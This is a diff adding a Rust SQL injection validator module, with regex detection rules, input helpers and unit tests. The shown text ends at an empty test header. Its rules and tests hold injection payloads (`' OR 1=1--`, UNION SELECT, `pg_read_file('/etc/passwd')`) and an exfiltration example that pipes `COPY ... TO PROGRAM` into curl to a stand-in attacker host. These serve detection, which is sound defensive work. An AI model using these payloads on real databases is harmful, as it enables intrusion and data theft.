@@ -0,0 +1,1027 @@
+//! Rule-based SQL injection signature matching.
+//!
+//! `SqliValidator` compiles its rules once so hot paths don't pay for regex
+//! construction on every call. The keyword list is configurable: applications
+//! can block extra dangerous functions (e.g. `pg_read_file`) or allow a
+//! built-in keyword that legitimately appears in free text.
+
+use regex::{Regex, RegexBuilder};
+use serde::Serialize;
+use std::borrow::Cow;
+use std::collections::HashSet;
+use std::fmt;
+use std::ops::Range;
+use std::sync::LazyLock;
+use std::time::{Duration, Instant};
+use unicode_normalization::{is_nfkc_quick, IsNormalized, UnicodeNormalization};
+
+/// Keywords blocked by the built-in rule set.
+pub const DEFAULT_BLOCKED_KEYWORDS: [&str; 10] = [
+    "union", "select", "insert", "delete", "drop", "update", "alter", "create", "exec", "shutdown",
+];
+
+/// Default maximum input length accepted by the validator, in characters.
+pub const DEFAULT_MAX_LEN: usize = 100;
+
+/// Default cap on how many bytes the validator will run its rules over.
+pub const DEFAULT_MAX_SCAN_BYTES: usize = 64 * 1024;
+
+/// Suggested wall-clock budget for one `validate` call, for configs that opt into `scan_budget`.
+pub const DEFAULT_SCAN_BUDGET: Duration = Duration::from_millis(100);
+
+/// Largest compiled program a custom pattern may produce, in bytes. Bigger ones (stacked
+/// bounded repeats like `(\w{100}){100}`) fail `SqliValidator::new` instead of being
+/// slow on every request.
+pub const CUSTOM_PATTERN_SIZE_LIMIT: usize = 1024 * 1024;
+
+/// Boolean-based blind injection: `OR`/`AND`/`||`/`&&` followed by a comparison,
+/// e.g. `OR 1=1`, `AND 2>1`, `or'a'='a'`, `OR/**/x=x`. Inline comments count as whitespace.
+/// Intended for user-supplied *values*; a field that legitimately accepts SQL-like
+/// filters (`age=1 and name=x`) would trip it.
+pub const BOOLEAN_BLIND_PATTERN: &str = concat!(
+    r"(?is)(?:\b(?:or|and)(?:(?:\s|/\*.*?\*/)+|\b)|(?:\|\||&&)(?:\s|/\*.*?\*/)*)",
+    r"\(?(?:\s|/\*.*?\*/)*",
+    r#"(?:\d+(?:\.\d+)?|'[^']*'|"[^"]*"|[a-z_]\w*)"#,
+    r"(?:\s|/\*.*?\*/)*(?:=|<>|!=|<=|>=|<|>|(?:\s|/\*.*?\*/)like(?:\s|/\*.*?\*/))(?:\s|/\*.*?\*/)*",
+    // The right operand's closing quote usually comes from the app's own query: x' OR 'a'='a
+    r#"(?:\d+(?:\.\d+)?|'[^']*'?|"[^"]*"?|[a-z_]\w*)"#,
+);
+
+/// True for bidirectional formatting characters and the byte-order mark: embeddings and
+/// overrides (U+202A..U+202E), isolates (U+2066..U+2069), LRM/RLM/ALM, and U+FEFF.
+/// They render invisibly or reorder text, so logs and review UIs can show a payload as
+/// something harmless (`'--` displayed as `--'`) or split a keyword a filter looks for.
+pub fn is_bidi_control(c: char) -> bool {
+    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{FEFF}')
+}
+
+/// Removes every `is_bidi_control` character; borrows when there is nothing to strip.
+pub fn strip_bidi_controls(input: &str) -> Cow<'_, str> {
+    if input.contains(is_bidi_control) {
+        Cow::Owned(input.chars().filter(|&c| !is_bidi_control(c)).collect())
+    } else {
+        Cow::Borrowed(input)
+    }
+}
+
+/// NFKC-normalizes `input`, folding compatibility look-alikes onto their ASCII forms:
+/// fullwidth `ＵＮＩＯＮ` becomes `UNION`, `＇` becomes `'`, ligatures and superscripts
+/// are spelled out. `SqliValidator` matches its rules against this form.
+pub fn normalize_input(input: &str) -> String {
+    normalized(input).into_owned()
+}
+
+// Borrows in the common case: ASCII and most text is already NFKC
+fn normalized(input: &str) -> Cow<'_, str> {
+    match is_nfkc_quick(input.chars()) {
+        IsNormalized::Yes => Cow::Borrowed(input),
+        _ => Cow::Owned(input.nfkc().collect()),
+    }
+}
+
+static BOOLEAN_BLIND: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(BOOLEAN_BLIND_PATTERN).expect("boolean-blind pattern must compile"));
+
+/// Looks only for boolean-based blind injection, reporting it under `SqliValidator`'s
+/// public `boolean-tautology` rule name so existing filters on that name keep working.
+/// Use on user-supplied values, not on SQL fragments (see `BOOLEAN_BLIND_PATTERN`).
+pub fn detect_boolean_blind(input: &str) -> Option<MatchedSignature> {
+    BOOLEAN_BLIND.find(input).map(|m| MatchedSignature {
+        rule_name: "boolean-tautology",
+        matched_text: m.as_str().to_string(),
+        span: m.range(),
+    })
+}
+
+/// Tunable knobs for `SqliValidator`.
+#[derive(Debug, Clone)]
+pub struct SqliValidatorConfig {
+    /// Keywords blocked in addition to `DEFAULT_BLOCKED_KEYWORDS`.
+    pub extra_blocked_keywords: Vec<String>,
+    /// Keywords removed from the blocked set (matched case-insensitively).
+    pub allow_keywords: Vec<String>,
+    /// Inputs longer than this many characters (Unicode scalar values) are rejected.
+    pub max_len: usize,
+    /// Inputs over this many bytes fail with `FieldTooLargeToScan` before any rule runs,
+    /// so an oversized field can't be used to burn CPU in the regex engine.
+    pub max_scan_bytes: usize,
+    /// Replace matched text with `*` of the same length in reports, so
+    /// dashboards can show where a rule fired without storing the payload.
+    pub redact_matches: bool,
+    /// Application-specific regexes, compiled as rules named `custom` after the built-ins.
+    /// Each must compile within `CUSTOM_PATTERN_SIZE_LIMIT`.
+    pub custom_patterns: Vec<String>,
+    /// Best-effort wall-clock budget for one `validate` call, checked around each rule; see `validate`.
+    /// `None` (the default) disables it: with a budget, whether an input passes can depend on
+    /// machine load, so enable it only where a `ScanTimeout` rejection is acceptable.
+    pub scan_budget: Option<Duration>,
+    /// Enable the `jsonb-operator-abuse` rule (`@>`, `->>`, `#>`, `jsonb_path_query(`, ...).
+    /// Off by default: turn it on for values spliced into dynamic jsonb queries, where
+    /// plain JSON documents are expected but operators and path functions are not.
+    pub detect_jsonb_operators: bool,
+    /// Strict mode (the default): inputs containing bidi controls or a BOM fail with
+    /// `BidiControlCharacter`. When false they are stripped before the rules run instead.
+    pub reject_bidi_controls: bool,
+    /// Drop the `statement-terminator` rule, for free text where `;` is ordinary punctuation.
+    /// Off by default; stacked queries still need a keyword, which the `keyword` rule catches.
+    pub allow_semicolons: bool,
+}
+
+impl Default for SqliValidatorConfig {
+    fn default() -> Self {
+        Self {
+            extra_blocked_keywords: Vec::new(),
+            allow_keywords: Vec::new(),
+            max_len: DEFAULT_MAX_LEN,
+            max_scan_bytes: DEFAULT_MAX_SCAN_BYTES,
+            redact_matches: false,
+            detect_jsonb_operators: false,
+            custom_patterns: Vec::new(),
+            scan_budget: None,
+            reject_bidi_controls: true,
+            allow_semicolons: false,
+        }
+    }
+}
+
+/// Reasons an input can be rejected.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ValidationError {
+    /// A detection rule matched; `rule` names it and `matched` is the offending text.
+    SqlPatternDetected { rule: &'static str, matched: String },
+    /// Input has more characters than the configured maximum.
+    TooLong { len: usize, max: usize },
+    /// Input is empty or whitespace-only.
+    EmptyInput,
+    /// Not a plain (optionally schema-qualified) SQL identifier.
+    InvalidIdentifier,
+    /// A well-formed identifier that isn't on the caller's allow-list.
+    IdentifierNotAllowed,
+    /// Not a structurally valid `local@domain` email address.
+    InvalidEmail,
+    /// Input exceeds `max_scan_bytes` and was rejected without being scanned.
+    FieldTooLargeToScan { len: usize, max: usize },
+    /// Scanning ran past `scan_budget` and was abandoned; treat the input as unsafe.
+    ScanTimeout,
+    /// Input contains a bidi override/isolate or a BOM (see `is_bidi_control`); strict mode only.
+    BidiControlCharacter,
+    /// Element `index` of an array parameter failed validation with `error`.
+    InvalidArrayElement { index: usize, error: Box<ValidationError> },
+}
+
+impl fmt::Display for ValidationError {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        match self {
+            Self::SqlPatternDetected { .. } => write!(f, "Potential SQL injection detected"),
+            Self::TooLong { .. } => write!(f, "Input exceeds maximum allowed length"),
+            Self::EmptyInput => write!(f, "Input must not be empty"),
+            Self::InvalidIdentifier => write!(f, "Invalid SQL identifier"),
+            Self::IdentifierNotAllowed => write!(f, "Identifier not allowed"),
+            Self::InvalidEmail => write!(f, "Invalid email address"),
+            Self::ScanTimeout => write!(f, "Input scan exceeded its time budget"),
+            Self::BidiControlCharacter => write!(f, "Input contains bidirectional control characters"),
+            Self::FieldTooLargeToScan { len, max } => {
+                write!(f, "Input of {} bytes is too large to scan (max {})", len, max)
+            }
+            Self::InvalidArrayElement { index, error } => write!(f, "Array element {}: {}", index, error),
+        }
+    }
+}
+
+impl ValidationError {
+    /// Stable machine-readable code for API responses; unlike `matched`, safe to return to clients.
+    pub fn code(&self) -> &'static str {
+        match self {
+            Self::SqlPatternDetected { .. } => "sql_pattern_detected",
+            Self::TooLong { .. } => "too_long",
+            Self::EmptyInput => "empty",
+            Self::InvalidIdentifier => "invalid_identifier",
+            Self::IdentifierNotAllowed => "identifier_not_allowed",
+            Self::InvalidEmail => "invalid_email",
+            Self::FieldTooLargeToScan { .. } => "too_large_to_scan",
+            Self::ScanTimeout => "scan_timeout",
+            Self::BidiControlCharacter => "bidi_control_character",
+            Self::InvalidArrayElement { .. } => "invalid_array_element",
+        }
+    }
+}
+
+impl std::error::Error for ValidationError {}
+
+/// One rule hit inside an input, as reported by `SqliValidator::matched_signatures`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct MatchedSignature {
+    pub rule_name: &'static str,
+    pub matched_text: String,
+    /// Byte range of the match within the input.
+    pub span: Range<usize>,
+}
+
+/// How serious a rule hit is, for triage in reports.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+}
+
+/// Reviewable description of one rule, as returned by `SqliValidator::describe_rules`.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct RuleDescription {
+    pub name: &'static str,
+    /// The regex exactly as compiled.
+    pub pattern_source: String,
+    pub severity: Severity,
+    /// A sample input the rule matches.
+    pub example_match: String,
+}
+
+/// An input that passed every rule, in the cleaned form that was checked.
+/// Only `SqliValidator::validate_and_sanitize` can build one, so holding a
+/// `Sanitized` proves validation happened; persist this, not the raw input.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct Sanitized(String);
+
+impl Sanitized {
+    pub fn as_str(&self) -> &str {
+        &self.0
+    }
+
+    pub fn into_inner(self) -> String {
+        self.0
+    }
+}
+
+impl AsRef<str> for Sanitized {
+    fn as_ref(&self) -> &str {
+        &self.0
+    }
+}
+
+impl fmt::Display for Sanitized {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+/// A single named detection rule.
+#[derive(Debug)]
+struct Rule {
+    name: &'static str,
+    pattern: Regex,
+    severity: Severity,
+    example: String,
+}
+
+/// Compiled SQLi detector.
+#[derive(Debug)]
+pub struct SqliValidator {
+    rules: Vec<Rule>,
+    max_len: usize,
+    max_scan_bytes: usize,
+    scan_budget: Option<Duration>,
+    redact_matches: bool,
+    reject_bidi_controls: bool,
+}
+
+/// Name the builder API is documented under: `InputValidator::builder()...build()`.
+pub type InputValidator = SqliValidator;
+
+impl SqliValidator {
+    /// Compiles the built-in rules plus any configured keyword changes.
+    /// Extra keywords are escaped, so they are always matched literally.
+    pub fn new(config: SqliValidatorConfig) -> Result<Self, regex::Error> {
+        let allowed: HashSet<String> = config
+            .allow_keywords
+            .iter()
+            .map(|k| k.to_lowercase())
+            .collect();
+
+        let mut keywords: Vec<String> = Vec::new();
+        let candidates = DEFAULT_BLOCKED_KEYWORDS
+            .iter()
+            .map(|k| k.to_string())
+            .chain(config.extra_blocked_keywords.iter().map(|k| k.to_lowercase()));
+        for keyword in candidates {
+            if !allowed.contains(&keyword) && !keywords.contains(&keyword) {
+                keywords.push(keyword);
+            }
+        }
+
+        let mut rules = Vec::new();
+        if !keywords.is_empty() {
+            let alternation = keywords
+                .iter()
+                .map(|k| regex::escape(k))
+                .collect::<Vec<_>>()
+                .join("|");
+            rules.push(Rule {
+                name: "keyword",
+                pattern: Regex::new(&format!(r"(?i)\b({alternation})\b"))?,
+                severity: Severity::High,
+                example: format!("x {} y", keywords[0].to_uppercase()),
+            });
+        }
+        rules.push(Rule {
+            name: "boolean-tautology",
+            pattern: BOOLEAN_BLIND.clone(),
+            severity: Severity::High,
+            example: "x' OR/**/'a'='a".into(),
+        });
+        rules.push(Rule {
+            name: "quote",
+            pattern: Regex::new(r"'")?,
+            severity: Severity::Medium,
+            example: "O'Brien".into(),
+        });
+        if !config.allow_semicolons {
+            rules.push(Rule {
+                name: "statement-terminator",
+                pattern: Regex::new(r";")?,
+                severity: Severity::Medium,
+                example: "1; SHUTDOWN".into(),
+            });
+        }
+        rules.push(Rule {
+            name: "time-based",
+            pattern: Regex::new(r"(?i)\b(pg_sleep|sleep|benchmark)\s*\(|\bwaitfor\s+delay\b")?,
+            severity: Severity::High,
+            example: "1 AND pg_sleep(5)".into(),
+        });
+        rules.push(Rule {
+            name: "out-of-band-exfil",
+            // UNC paths (\\host\share, resolved over DNS/SMB), COPY ... PROGRAM, large-object
+            // file I/O, dblink, and the MSSQL/Oracle/MySQL calls that reach out of the database
+            pattern: Regex::new(concat!(
+                r"(?is)\\\\[\w.-]+\\",
+                r"|\bcopy\b.*?\b(?:to|from)\s+program\b",
+                r"|\blo_(?:import|export)\s*\(|\bdblink(?:_\w+)?\s*\(",
+                r"|\bxp_(?:dirtree|fileexist|subdirs|cmdshell)\b",
+                r"|\b(?:utl_http|utl_inaddr|httpuritype|dbms_ldap)\b|\bload_file\s*\(|\binto\s+(?:out|dump)file\b",
+            ))?,
+            severity: Severity::High,
+            example: "COPY (SELECT 1) TO PROGRAM 'curl evil.example'".into(),
+        });
+        rules.push(Rule {
+            name: "encoded-metachar",
+            // %27 ' · %22 " · %3B ; · %00 NUL · %2D%2D -- · %2F%2A /*
+            pattern: Regex::new(r"(?i)%(27|22|3b|00)|%2d%2d|%2f%2a")?,
+            severity: Severity::Medium,
+            example: "admin%27%20OR%201%3D1".into(),
+        });
+        if config.detect_jsonb_operators {
+            rules.push(Rule {
+                name: "jsonb-operator-abuse",
+                // Containment, path extraction, key-existence and jsonpath operators, plus jsonb functions
+                pattern: Regex::new(r"(?i)@>|<@|->>?|#>>?|#-|\?[|&]|@[?@]|\bjsonb?_\w+\s*\(")?,
+                severity: Severity::High,
+                example: r#"x' OR data @> '{"admin":true}'"#.into(),
+            });
+        }
+        rules.push(Rule {
+            name: "comment",
+            pattern: Regex::new(r"--|/\*|\*/")?,
+            severity: Severity::Medium,
+            example: "admin'--".into(),
+        });
+
+        for (i, pattern) in config.custom_patterns.iter().enumerate() {
+            rules.push(Rule {
+                name: "custom",
+                pattern: RegexBuilder::new(pattern).size_limit(CUSTOM_PATTERN_SIZE_LIMIT).build()?,
+                severity: Severity::High,
+                example: format!("(custom pattern #{})", i + 1),
+            });
+        }
+
+        Ok(Self {
+            rules,
+            max_len: config.max_len,
+            max_scan_bytes: config.max_scan_bytes,
+            scan_budget: config.scan_budget,
+            redact_matches: config.redact_matches,
+            reject_bidi_controls: config.reject_bidi_controls,
+        })
+    }
+
+    /// Checks `input` is non-blank and within the scan cap, then for bidi controls
+    /// (rejected in strict mode, otherwise stripped), then against every rule
+    /// (stopping at the first hit), then against the length limit.
+    ///
+    /// A `scan_budget`, if set, is best-effort: it is checked before and after each rule and
+    /// never interrupts one. The regex engine never backtracks, so one rule's scan is linear
+    /// in the input, bounded by `max_scan_bytes` and `CUSTOM_PATTERN_SIZE_LIMIT`; an expensive
+    /// custom pattern runs to the end of that one scan, then fails with `ScanTimeout` rather
+    /// than passing. The deterministic bound is `max_scan_bytes`.
+    pub fn validate(&self, input: &str) -> Result<(), ValidationError> {
+        self.validate_with_limit(input, self.max_len)
+    }
+
+    /// `validate` with a per-field length limit in place of the configured `max_len`.
+    /// Length is counted in characters, so `max_len` 100 admits 100 emoji, not 25.
+    /// The byte-based `max_scan_bytes` cap still applies first.
+    pub fn validate_with_limit(&self, input: &str, max_len: usize) -> Result<(), ValidationError> {
+        require_non_blank(input)?;
+        if input.len() > self.max_scan_bytes {
+            return Err(ValidationError::FieldTooLargeToScan { len: input.len(), max: self.max_scan_bytes });
+        }
+        if self.reject_bidi_controls && input.contains(is_bidi_control) {
+            return Err(ValidationError::BidiControlCharacter);
+        }
+        // Stripped, `UN\u{202E}ION` is plain `UNION` again, so hidden keywords still match
+        let input = &*strip_bidi_controls(input);
+        // Rules see the NFKC form, so fullwidth keywords and quotes can't slip past them
+        let folded = normalized(input);
+
+        let started = Instant::now();
+        let over_budget = |rule: &str| {
+            let elapsed = started.elapsed();
+            let over = self.scan_budget.is_some_and(|budget| elapsed >= budget);
+            if over {
+                let elapsed_ms = elapsed.as_millis() as u64;
+                tracing::warn!(target: "sqli", rule, elapsed_ms, "SQLi scan budget exceeded");
+            }
+            over
+        };
+        for rule in &self.rules {
+            if over_budget(rule.name) {
+                return Err(ValidationError::ScanTimeout);
+            }
+            if let Some(m) = rule.pattern.find(&folded) {
+                return Err(ValidationError::SqlPatternDetected {
+                    rule: rule.name,
+                    matched: self.report_text(m.as_str()),
+                });
+            }
+            // A slow rule that found nothing must not turn into a pass
+            if over_budget(rule.name) {
+                return Err(ValidationError::ScanTimeout);
+            }
+        }
+
+        let len = input.chars().count();
+        if len > max_len {
+            return Err(ValidationError::TooLong { len, max: max_len });
+        }
+
+        Ok(())
+    }
+
+    /// Cleans `input` (drops control characters, and bidi controls unless in strict mode,
+    /// then trims), validates the cleaned value and returns it. Audit-only deployments
+    /// can store the result as-is.
+    pub fn validate_and_sanitize(&self, input: &str) -> Result<Sanitized, ValidationError> {
+        let without_controls: String = input
+            .chars()
+            .filter(|&c| !c.is_control() && (self.reject_bidi_controls || !is_bidi_control(c)))
+            .collect();
+        let cleaned = without_controls.trim().to_string();
+        self.validate(&cleaned)?;
+        Ok(Sanitized(cleaned))
+    }
+
+    /// Lists every rule hit in `input`, ordered by position.
+    /// Uses the same compiled rules as `validate`, so the two never disagree; like `validate`
+    /// it scans `normalize_input(input)`, and spans index into that form.
+    /// Scans the whole input regardless of `max_scan_bytes`; meant for diagnostics, not hot paths.
+    pub fn matched_signatures(&self, input: &str) -> Vec<MatchedSignature> {
+        let input = &*normalized(input);
+        let mut hits: Vec<MatchedSignature> = self
+            .rules
+            .iter()
+            .flat_map(|rule| {
+                rule.pattern.find_iter(input).map(move |m| (rule.name, m))
+            })
+            .map(|(rule_name, m)| MatchedSignature {
+                rule_name,
+                matched_text: self.report_text(m.as_str()),
+                span: m.range(),
+            })
+            .collect();
+        hits.sort_by_key(|hit| (hit.span.start, hit.span.end));
+        hits
+    }
+
+    /// Describes every active rule so reviewers can audit what is enforced.
+    pub fn describe_rules(&self) -> Vec<RuleDescription> {
+        self.rules
+            .iter()
+            .map(|rule| RuleDescription {
+                name: rule.name,
+                pattern_source: rule.pattern.as_str().to_string(),
+                severity: rule.severity,
+                example_match: rule.example.clone(),
+            })
+            .collect()
+    }
+
+    /// `describe_rules` as pretty-printed JSON, for docs and audit exports.
+    pub fn to_json(&self) -> String {
+        serde_json::to_string_pretty(&self.describe_rules()).expect("rule descriptions always serialize")
+    }
+
+    fn report_text(&self, matched: &str) -> String {
+        if self.redact_matches {
+            "*".repeat(matched.chars().count())
+        } else {
+            matched.to_string()
+        }
+    }
+}
+
+impl Default for SqliValidator {
+    fn default() -> Self {
+        Self::new(SqliValidatorConfig::default()).expect("built-in SQLi rules must compile")
+    }
+}
+
+impl SqliValidator {
+    /// Chained alternative to filling in a `SqliValidatorConfig`:
+    /// `SqliValidator::builder().add_keyword("merge").max_len(200).build()?`.
+    pub fn builder() -> SqliValidatorBuilder {
+        SqliValidatorBuilder::default()
+    }
+}
+
+/// Builder for `SqliValidator`; every rule is compiled once, in `build`.
+/// Why: Compiling per call costs milliseconds, validating with compiled rules microseconds.
+#[derive(Debug, Clone, Default)]
+pub struct SqliValidatorBuilder {
+    config: SqliValidatorConfig,
+}
+
+impl SqliValidatorBuilder {
+    /// Blocks `keyword` too (matched literally, case-insensitively, on word boundaries).
+    pub fn add_keyword(mut self, keyword: impl Into<String>) -> Self {
+        self.config.extra_blocked_keywords.push(keyword.into());
+        self
+    }
+
+    /// Removes `keyword` from the blocked set, e.g. `select` for free-text fields.
+    pub fn allow_keyword(mut self, keyword: impl Into<String>) -> Self {
+        self.config.allow_keywords.push(keyword.into());
+        self
+    }
+
+    /// See `SqliValidatorConfig::allow_semicolons`.
+    pub fn allow_semicolons(mut self, allow: bool) -> Self {
+        self.config.allow_semicolons = allow;
+        self
+    }
+
+    /// Maximum input length in characters.
+    pub fn max_len(mut self, max_len: usize) -> Self {
+        self.config.max_len = max_len;
+        self
+    }
+
+    /// Adds an application-specific regex rule, reported as `custom`.
+    pub fn custom_pattern(mut self, pattern: impl Into<String>) -> Self {
+        self.config.custom_patterns.push(pattern.into());
+        self
+    }
+
+    /// Compiles the rules; fails only if a custom pattern is not a valid regex.
+    pub fn build(self) -> Result<SqliValidator, regex::Error> {
+        SqliValidator::new(self.config)
+    }
+}
+
+/// Rejects empty and whitespace-only values.
+/// For fields such as emails that skip the SQLi rules but must still be present.
+pub fn require_non_blank(input: &str) -> Result<(), ValidationError> {
+    if input.trim().is_empty() {
+        return Err(ValidationError::EmptyInput);
+    }
+    Ok(())
+}
+
+// Postgres truncates identifiers beyond NAMEDATALEN - 1 bytes
+const MAX_IDENTIFIER_LEN: usize = 63;
+
+static IDENTIFIER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)?$").expect("identifier pattern must compile")
+});
+
+/// Checks that `input` is a bare identifier (`name`) or schema-qualified one (`public.name`).
+/// Why: Identifiers can't be bound as parameters, so anything spliced into SQL text as a
+/// column or table name must be this strict. No quotes, spaces, or keywords like `DESC`.
+pub fn validate_identifier(input: &str) -> Result<(), ValidationError> {
+    require_non_blank(input)?;
+    if !IDENTIFIER.is_match(input) || input.split('.').any(|part| part.len() > MAX_IDENTIFIER_LEN) {
+        return Err(ValidationError::InvalidIdentifier);
+    }
+    Ok(())
+}
+
+/// Escapes `\`, `%` and `_` with a backslash so `input` matches literally inside a LIKE pattern.
+/// Why: Binding stops SQL injection but not wildcard injection; an unescaped `%` turns
+/// "contains X" into "matches everything". Use with `LIKE $1 ESCAPE '\'`.
+pub fn escape_like_pattern(input: &str) -> String {
+    let mut escaped = String::with_capacity(input.len());
+    for c in input.chars() {
+        if matches!(c, '\\' | '%' | '_') {
+            escaped.push('\\');
+        }
+        escaped.push(c);
+    }
+    escaped
+}
+
+/// Resolves a user-chosen sort column against an explicit allow-list.
+/// Returns the allow-list's own string, never the caller's input, so the value
+/// spliced into `ORDER BY` is always one the application wrote.
+pub fn safe_order_by<'a>(column: &str, allowed: &[&'a str]) -> Result<&'a str, ValidationError> {
+    validate_identifier(column)?;
+    allowed
+        .iter()
+        .copied()
+        .find(|candidate| candidate.eq_ignore_ascii_case(column)) // Unquoted names fold case in Postgres
+        .ok_or(ValidationError::IdentifierNotAllowed)
+}
+
+// RFC 5321 limits
+const MAX_EMAIL_LOCAL_LEN: usize = 64;
+const MAX_EMAIL_DOMAIN_LEN: usize = 255;
+
+/// Trims, validates and lowercases an email address (both local part and domain).
+/// Why: `User@Example.com` and `user@example.com` reach the same mailbox at virtually
+/// every provider; storing one spelling keeps unique constraints and lookups honest.
+pub fn canonicalize_email(email: &str) -> Result<String, ValidationError> {
+    canonicalize_email_with(email, true)
+}
+
+/// `canonicalize_email`, lowercasing the local part only if `lowercase_local` is set.
+/// The domain is always lowercased; it is case-insensitive by definition.
+pub fn canonicalize_email_with(email: &str, lowercase_local: bool) -> Result<String, ValidationError> {
+    require_non_blank(email)?;
+    let (local, domain) = email.trim().rsplit_once('@').ok_or(ValidationError::InvalidEmail)?;
+
+    // Unquoted dot-atom local part: atext runs separated by single dots
+    let local_ok = !local.is_empty()
+        && local.len() <= MAX_EMAIL_LOCAL_LEN
+        && local.split('.').all(|atom| {
+            !atom.is_empty() && atom.chars().all(|c| c.is_ascii_alphanumeric() || "!#$%&*+-/=?^_`{|}~".contains(c))
+        });
+    // At least two labels of letters, digits and inner hyphens
+    let domain_ok = domain.len() <= MAX_EMAIL_DOMAIN_LEN
+        && domain.contains('.')
+        && domain.split('.').all(|label| {
+            !label.is_empty()
+                && label.len() <= 63
+                && !label.starts_with('-')
+                && !label.ends_with('-')
+                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+        });
+    if !local_ok || !domain_ok {
+        return Err(ValidationError::InvalidEmail);
+    }
+
+    let local = if lowercase_local { local.to_ascii_lowercase() } else { local.to_string() };
+    Ok(format!("{}@{}", local, domain.to_ascii_lowercase()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_builder_custom_keyword_and_allowed_select() {
+        // An added keyword is flagged; allowing `select` lets it through; semicolons can be allowed.
+        let validator = InputValidator::builder().add_keyword("MERGE").max_len(200).build().unwrap();
+        assert!(matches!(
+            validator.validate("merge into users"),
+            Err(ValidationError::SqlPatternDetected { rule: "keyword", .. })
+        ));
+        assert!(validator.validate("please select a plan").is_err());
+        assert!(validator.validate(&"a".repeat(200)).is_ok());
+
+        let free_text = InputValidator::builder().allow_keyword("select").allow_semicolons(true).build().unwrap();
+        assert_eq!(free_text.validate("please select a plan; thanks"), Ok(()));
+        assert!(SqliValidator::default().validate("a; b").is_err());
+        assert!(SqliValidator::builder().custom_pattern("(").build().is_err());
+    }
+
+    #[test]
+    fn test_default_rules() {
+        // Built-in keywords and metacharacters are still rejected by default.
+        let validator = SqliValidator::default();
+        assert!(validator.validate("safe_user").is_ok());
+        assert!(validator.validate("' OR 1=1;--").is_err());
+        assert!(validator.validate("UNION SELECT * FROM users").is_err());
+    }
+
+    #[test]
+    fn test_extra_blocked_keyword() {
+        // An application-specific keyword is compiled into the keyword rule.
+        let validator = SqliValidator::new(SqliValidatorConfig {
+            extra_blocked_keywords: vec!["pg_read_file".into()],
+            ..Default::default()
+        })
+        .unwrap();
+        assert_eq!(
+            validator.validate("pg_read_file('/etc/passwd')"),
+            Err(ValidationError::SqlPatternDetected {
+                rule: "keyword",
+                matched: "pg_read_file".into(),
+            })
+        );
+    }
+
+    #[test]
+    fn test_allow_listed_keyword() {
+        // Allowing a built-in keyword lets free text containing it through.
+        let validator = SqliValidator::new(SqliValidatorConfig {
+            allow_keywords: vec!["SELECT".into()],
+            ..Default::default()
+        })
+        .unwrap();
+        assert!(validator.validate("please select a plan").is_ok());
+        assert!(validator.validate("drop everything").is_err());
+    }
+
+    #[test]
+    fn test_matched_signatures_spans() {
+        // A classic tautology payload reports each rule with its byte span.
+        let hits = SqliValidator::default().matched_signatures("' OR 1=1--");
+        let tautology = hits.iter().find(|h| h.rule_name == "boolean-tautology").unwrap();
+        assert_eq!(tautology.span, 2..8);
+        assert_eq!(tautology.matched_text, "OR 1=1");
+        let comment = hits.iter().find(|h| h.rule_name == "comment").unwrap();
+        assert_eq!(comment.span, 8..10);
+        assert_eq!(comment.matched_text, "--");
+    }
+
+    #[test]
+    fn test_matched_signatures_redacted() {
+        // Redaction keeps the length and span but hides the payload.
+        let validator = SqliValidator::new(SqliValidatorConfig {
+            redact_matches: true,
+            ..Default::default()
+        })
+        .unwrap();
+        let hits = validator.matched_signatures("' OR 1=1--");
+        let tautology = hits.iter().find(|h| h.rule_name == "boolean-tautology").unwrap();
+        assert_eq!(tautology.matched_text, "******");
+        assert!(validator.matched_signatures("safe_user").is_empty());
+    }
+
+    #[test]
+    fn test_blank_input_rejected() {
+        // Empty and whitespace-only values fail before any rule runs.
+        let validator = SqliValidator::default();
+        assert_eq!(validator.validate(""), Err(ValidationError::EmptyInput));
+        assert_eq!(validator.validate("   "), Err(ValidationError::EmptyInput));
+        assert_eq!(validator.validate(" \t\n"), Err(ValidationError::EmptyInput));
+        assert_eq!(validator.validate("alice"), Ok(()));
+        assert_eq!(require_non_blank("alice@example.com"), Ok(()));
+    }
+
+    #[test]
+    fn test_describe_rules_covers_builtins() {
+        // Every built-in rule is described, and each example really trips its rule.
+        let validator = SqliValidator::default();
+        let described = validator.describe_rules();
+        let names: Vec<&str> = described.iter().map(|d| d.name).collect();
+        assert_eq!(names, ["keyword", "boolean-tautology", "quote", "statement-terminator", "time-based", "out-of-band-exfil", "encoded-metachar", "comment"]);
+        for rule in &described {
+            assert!(!rule.example_match.is_empty());
+            assert!(Regex::new(&rule.pattern_source).unwrap().is_match(&rule.example_match), "{}", rule.name);
+        }
+
+        let json: serde_json::Value = serde_json::from_str(&validator.to_json()).unwrap();
+        assert_eq!(json[0]["name"], "keyword");
+        assert_eq!(json[0]["severity"], "high");
+    }
+
+    #[test]
+    fn test_boolean_blind_variants_detected() {
+        // Tautologies and always-false probes are caught through case, spacing and comment tricks.
+        for payload in [
+            "' OR 1=1--",
+            "1 AND 1=2",
+            "x' or 'a'='a",
+            "x'or'a'='a",
+            "x' OR/**/1/**/=/**/1",
+            "x' OR username = username",
+            "1 || 2>1",
+            "x\" AND \"a\" LIKE \"a",
+        ] {
+            let hit = detect_boolean_blind(payload).unwrap_or_else(|| panic!("missed {payload:?}"));
+            assert_eq!(hit.rule_name, "boolean-tautology");
+        }
+    }
+
+    #[test]
+    fn test_boolean_blind_ignores_benign_values() {
+        // Comparisons without a boolean connector, or words merely containing "or", pass.
+        for benign in ["age=1", "WHERE age = 1", "Portland=1", "rock and roll", "for=2"] {
+            assert_eq!(detect_boolean_blind(benign), None, "{benign:?}");
+        }
+    }
+
+    #[test]
